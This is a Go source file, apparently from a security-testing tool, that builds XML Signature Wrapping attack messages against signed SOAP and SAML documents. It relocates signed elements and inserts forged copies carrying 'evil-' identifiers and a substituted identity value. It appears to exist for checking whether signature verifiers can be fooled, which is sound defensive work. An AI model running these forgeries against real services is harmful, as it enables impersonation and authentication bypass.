package attack

import (
	"errors"
	"fmt"
	"strings"

	"github.com/beevik/etree"
)

// Forged is the text that the unsigned copies of a variant hold in place of the
// attribute values: another person's number.
const Forged = "00000000196"

// A Variant is one attack message.
type Variant struct {
	ID      string // of the attack list: "W9"
	Name    string // unique among the variants of one call: "W9 body into the header"
	Gain    string // what it would have achieved
	Message []byte
	// Holds: every digest is that of the first element with the identifier, and the
	// signature value is right, so that only the place of things is wrong.
	Holds bool
}

// An edit changes one tree into a variant.
type edit struct {
	id, name, gain string
	holds          bool
	change         func(*tree) error
}

var errShape = errors.New("attack: the message has not the shape that the attack needs")

// variants makes each edit on a fresh tree. An edit that does not fit the shape of
// the message (an assertion where there is none) is left out.
func variants(message []byte, edits []edit, find func(*tree) error) ([]Variant, error) {
	var all []Variant
	for _, e := range edits {
		t, err := parse(message)
		if err != nil {
			return nil, err
		}
		if err := find(t); err != nil {
			return nil, err
		}
		switch err := e.change(t); {
		case errors.Is(err, errShape):
			continue
		case err != nil:
			return nil, fmt.Errorf("attack: %s %s: %w", e.id, e.name, err)
		}
		out, err := t.document.WriteToBytes()
		if err != nil {
			return nil, err
		}
		all = append(all, Variant{ID: e.id, Name: e.id + " " + e.name, Gain: e.gain, Message: out, Holds: e.holds})
	}
	return all, nil
}

// A tree is a message under edit. Which of the elements are set depends on who made
// it.
type tree struct {
	document *etree.Document
	frame    *etree.Element // what holds the root elements

	envelope, header, body, security, timestamp, binary, assertion *etree.Element

	element   *etree.Element // with the enveloped signature
	signature *etree.Element
}

func parse(message []byte) (*tree, error) {
	d := etree.NewDocument()
	d.ReadSettings.PreserveCData = true
	d.WriteSettings = etree.WriteSettings{CanonicalEndTags: true, CanonicalText: true, CanonicalAttrVal: true}
	if err := d.ReadFromBytes(message); err != nil {
		return nil, err
	}
	if d.Root() == nil {
		return nil, errShape
	}
	return &tree{document: d, frame: &d.Element}, nil
}

const (
	nsEnvelope   = "http://schemas.xmlsoap.org/soap/envelope/"
	nsEnvelope12 = "http://www.w3.org/2003/05/soap-envelope"
	nsDS         = "http://www.w3.org/2000/09/xmldsig#"
	nsExclusive  = "http://www.w3.org/2001/10/xml-exc-c14n#"
	nsWSSE       = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
	nsWSU        = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
	nsSAML       = "urn:oasis:names:tc:SAML:1.0:assertion"
)

// child returns the first child element of this name, or nil.
func child(e *etree.Element, namespace, local string) *etree.Element {
	if e == nil {
		return nil
	}
	for _, c := range e.ChildElements() {
		if c.Tag == local && c.NamespaceURI() == namespace {
			return c
		}
	}
	return nil
}

// walk visits e and everything inside it until visit reports true.
func walk(e *etree.Element, visit func(*etree.Element) bool) bool {
	if visit(e) {
		return true
	}
	for _, c := range e.ChildElements() {
		if walk(c, visit) {
			return true
		}
	}
	return false
}

// identifiers are the attributes that somebody takes for an identifier.
func isIdentifier(a etree.Attr) bool {
	switch a.Key {
	case "Id", "ID":
		return a.Space == "" || a.Space == "wsu"
	case "id":
		return a.Space == "xml"
	case "AssertionID", "RequestID", "ResponseID":
		return a.Space == ""
	}
	return false
}

// identifier returns the value of e's first identifier.
func identifier(e *etree.Element) string {
	for _, a := range e.Attr {
		if isIdentifier(a) {
			return a.Value
		}
	}
	return ""
}

// pin declares on e every namespace that is in scope there, so that e means the same
// and has the same canonical form wherever it goes.
func pin(e *etree.Element) {
	have := map[string]bool{}
	for _, a := range e.Attr {
		if p, ok := declares(a); ok {
			have[p] = true
		}
	}
	for up := e.Parent(); up != nil; up = up.Parent() {
		for _, a := range up.Attr {
			p, ok := declares(a)
			if !ok || have[p] {
				continue
			}
			have[p] = true
			if p == "" {
				e.CreateAttr("xmlns", a.Value)
			} else {
				e.CreateAttr("xmlns:"+p, a.Value)
			}
		}
	}
	if !have[""] {
		e.CreateAttr("xmlns", "")
	}
}

func declares(a etree.Attr) (prefix string, ok bool) {
	switch {
	case a.Space == "xmlns":
		return a.Key, true
	case a.Space == "" && a.Key == "xmlns":
		return "", true
	}
	return "", false
}

// take takes e out of its parent, namespaces pinned.
func take(e *etree.Element) *etree.Element {
	pin(e)
	e.Parent().RemoveChild(e)
	return e
}

// replace puts with in the place of e and returns e, pinned.
func replace(e, with *etree.Element) *etree.Element {
	parent, at := e.Parent(), e.Index()
	take(e)
	parent.InsertChildAt(at, with)
	return e
}

func before(sibling, e *etree.Element) { sibling.Parent().InsertChildAt(sibling.Index(), e) }

func after(sibling, e *etree.Element) { sibling.Parent().InsertChildAt(sibling.Index()+1, e) }

// forge returns a pinned copy of e without its own signature, with other identifiers
// and the forged values.
func forge(e *etree.Element) *etree.Element {
	pin(e)
	c := e.Copy()
	for _, s := range c.ChildElements() {
		if s.Tag == "Signature" && (s.Space == "ds" || s.SelectAttrValue("xmlns", "") == nsDS) {
			c.RemoveChild(s)
		}
	}
	values := 0
	walk(c, func(x *etree.Element) bool {
		for i := range x.Attr {
			if isIdentifier(x.Attr[i]) {
				x.Attr[i].Value = "evil-" + x.Attr[i].Value
			}
		}
		if x.Tag == "AttributeValue" {
			x.SetText(Forged)
			values++
		}
		return false
	})
	if values == 0 {
		walk(c, func(x *etree.Element) bool {
			if len(x.ChildElements()) == 0 {
				x.SetText(Forged)
			}
			return false
		})
	}
	return c
}

// element makes an element of a namespace declared on itself.
func element(prefix, namespace, local string, children ...*etree.Element) *etree.Element {
	e := etree.NewElement(prefix + ":" + local)
	e.CreateAttr("xmlns:"+prefix, namespace)
	for _, c := range children {
		e.AddChild(c)
	}
	return e
}

func wrapper(children ...*etree.Element) *etree.Element {
	return element("x", "urn:x-attack", "Wrapper", children...)
}

func withoutIdentifier(e *etree.Element) *etree.Element {
	kept := e.Attr[:0]
	for _, a := range e.Attr {
		if !isIdentifier(a) {
			kept = append(kept, a)
		}
	}
	e.Attr = kept
	return e
}

func setIdentifier(e *etree.Element, value string) {
	for i := range e.Attr {
		if isIdentifier(e.Attr[i]) {
			e.Attr[i].Value = value
		}
	}
}

func names(edits []edit) []edit {
	for i := range edits {
		edits[i].name = strings.TrimSpace(edits[i].name)
	}
	return edits
}
